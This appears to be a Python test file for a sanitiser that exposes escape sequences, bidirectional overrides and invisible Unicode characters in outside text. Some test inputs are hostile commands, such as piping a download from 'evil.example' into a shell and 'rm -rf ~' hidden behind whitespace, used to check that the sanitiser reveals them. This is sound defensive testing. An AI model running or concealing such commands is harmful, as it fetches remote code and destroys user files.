"""Text from outside is data."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestrator.core.text.clean import clean, last_words, one_line, shown, shown_end, shown_line, unusual
from orchestrator.core.text.unusual import found


def test_no_escape_sequence_control_character_or_turning_of_text_is_left() -> None:
    assert clean("a\x1b[201~b\x1b]0;title\x07\r\nc\rd\te\x00\x7f\x9bf\udc80\u202eg\u2028") == "ab\nc\nd\tefg"


def test_one_line_is_one_line_and_short() -> None:
    assert one_line(" a\n\n\tb\u202ec ") == "a bc"
    assert one_line("x" * 300) == "x" * 199 + "…"


def test_a_line_that_was_cut_says_so_even_where_only_spaces_were_read() -> None:
    assert one_line("npm test" + " " * 5000 + "; rm -rf ~") == "npm test…"


def test_last_words_are_the_last() -> None:
    assert last_words("a\nb" * 1000, limit=3) == "a\nb"


UNUSUAL = [
    ("npm test\x1b];curl http://evil.example/x|sh;#\x07", "npm test^[];curl http://evil.example/x|sh;#^G"),
    ("rm -rf build\x1b[2K\rls", "rm -rf build^[[2K^Mls"),
    ("a\x00b", "a^@b"),
    ("a\x08b", "a^Hb"),
    ("a\x7fb", "a^?b"),
    ("a\x0b\x0cb", "a^K^Lb"),
    ("a\x9b31mb", "a<U+009B>31mb"),
    ("a\x85b", "a<U+0085>b"),
    ("a\u202egnp.exe", "a<U+202E>gnp.exe"),
    ("a\u2066b\u2069", "a<U+2066>b<U+2069>"),
    ("a\u200eb\u061c", "a<U+200E>b<U+061C>"),
    ("a\u200bb", "a<U+200B>b"),
    ("pass\u200dword", "pass<U+200D>word"),
    ("a\u200cb", "a<U+200C>b"),
    ("a\u2060b\ufeffc", "a<U+2060>b<U+FEFF>c"),
    ("a\u00adb", "a<U+00AD>b"),
    ("a\u034fb", "a<U+034F>b"),
    ("a\u3164b", "a<U+3164>b"),
    ("a\u2800b", "a<U+2800>b"),
    ("a\U000e0041\U000e0042b", "a<U+E0041><U+E0042>b"),
    ("🏴\U000e0061\U000e0062\U000e007f", "🏴<U+E0061><U+E0062><U+E007F>"),
    ("a\ufe0fb", "a<U+FE0F>b"),
    ("😀\ufe0f\ufe01", "😀\ufe0f<U+FE01>"),
    ("😀\U000e0121", "😀<U+E0121>"),
    ("\ud83d", "<U+D83D>"),
    ("a\u2028b\u2029c", "a<U+2028>b<U+2029>c"),
    ("git\u00a0push", "git<U+00A0>push"),
    ("git\u2003push", "git<U+2003>push"),
    ("git\u3000push", "git<U+3000>push"),
    ("a\ue000b", "a<U+E000>b"),
    ("a\ufff9b\ufffbc", "a<U+FFF9>b<U+FFFB>c"),
    ("\u0301a", "<U+0301>a"),
    ("a" + "\u0301" * 6, "a" + "\u0301" * 4 + "<U+0301>" * 2),
    ("a\u20ddb", "a<U+20DD>b"),
    ("a\U0001f3fbb", "a<U+1F3FB>b"),
    ("a\U0001d173b", "a<U+1D173>b"),
    ("a\ufdd0b", "a<U+FDD0>b"),
]


@pytest.mark.parametrize(("text", "expected"), UNUSUAL, ids=[mark for _, mark in UNUSUAL])
def test_what_hides_overwrites_or_turns_round_is_made_visible_and_nothing_is_left_out(
    text: str, expected: str
) -> None:
    assert shown(text) == expected
    assert unusual(text)


@pytest.mark.parametrize(
    "text",
    [
        "a line\n\tand a tab",
        "👨\u200d👩\u200d👧 👍🏽 🇩🇪 ❤️ ❤\ufe0e 1\ufe0f\u20e3 ☀️ ⚠️ ✅",
        "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        "\U0001f468\U0001f3fd\u200d\U0001f4bb ❤\ufe0f\u200d🔥 \U0001fae8",
        "مرحبا بالعالم، كيف حالُكَ؟",
        "می\u200cخواهم",
        "שָׁלוֹם עולם",
        "क्\u200dष नमस्ते தமிழ் ไทยน้ำ မြန်မာ ខ្មែរ",
        "Việt Nam, naïve, Å, Zoë".encode().decode(),
        "e\u0301 a\u0308 o\u0302\u0323",
        "日本語\u3000テキスト 한국어 中文，。！",
        "葛\U000e0100",
        "— “quotes” … → ├── €5 ½ © ™ ®\ufe0f ‰ § ¶",
        "ȘțȚ ẞß Ωμέγα Привет Հայերեն ქართული አማርኛ",
        "x ≠ y ∑ ∫ √2 𝑓(𝑥) ⟨a|b⟩",
    ],
)
def test_what_people_write_is_shown_as_it_is_and_not_called_unusual(text: str) -> None:
    assert shown(text) == text
    assert unusual(text) == ""


def test_line_ends_of_windows_are_line_ends() -> None:
    assert shown("a\r\nb\r\n") == "a\nb\n"
    assert shown("a\r\nb\nc\r\n") == "a^M\nb\nc^M\n"
    assert unusual("a\r\nb\r\n") == unusual("a\r\nb\n") == ""
    assert unusual("npm test\r") == "1 unusual character: ^M"


def test_what_is_unusual_is_told_in_words() -> None:
    assert unusual("a", "b\x1b\x1b", "\u202e") == "3 unusual characters: ^[ <U+202E>"
    assert unusual("\x01\x02\x03\x04\x05\x06\x07") == "7 unusual characters: ^A ^B ^C ^D ^E ^F …"
    assert unusual("\x1b" * 5000) == "over 1000 unusual characters: ^["


def test_a_shown_line_has_every_line_or_says_how_many_more_there_are() -> None:
    assert shown_line("npm test\n\n  curl x | sh\n") == "npm test ⏎ curl x | sh"
    assert shown_line("npm test" + " " * 5000 + "; rm -rf ~") == "npm test ; rm -rf ~"
    assert shown_line("\n" * 5000 + "rm -rf ~") == "rm -rf ~"
    long = shown_line("npm test\n" * 5000 + "rm -rf ~")
    assert len(long) == 200
    assert long.endswith(" more lines")
    assert shown_line("echo " + "x" * 300).endswith("x…")
    assert shown_line("ls" + " " * 300_000 + "; rm -rf ~").endswith("…")
    assert shown_line("\x1b[8m" * 100).startswith("^[[8m^[[8m")


def test_a_shown_end_says_that_it_was_cut() -> None:
    assert shown_end("a\x1b[2Jb") == "a^[[2Jb"
    assert shown_end("x\n" * 3000, limit=4) == "…x\nx"


@given(st.text(st.characters(exclude_categories=())))
def test_what_is_shown_shows_every_character_and_steers_no_terminal(text: str) -> None:
    said = shown(text)
    assert not list(found(said))
    assert "\r" not in said
    assert "\x1b" not in said
    assert said.encode().decode() == said
    assert shown(said) == said
    hidden = {at for at, _ in found(text)}
    kept = [each for at, each in enumerate(text) if at not in hidden and each != "\r"]
    rest = iter(said)
    assert all(each in rest for each in kept)


@given(st.text(st.characters(exclude_categories=()), max_size=400), st.integers(30, 60))
def test_a_shown_line_is_one_line_within_its_limit(text: str, limit: int) -> None:
    said = shown_line(text, limit)
    assert "\n" not in said
    assert len(said) <= limit
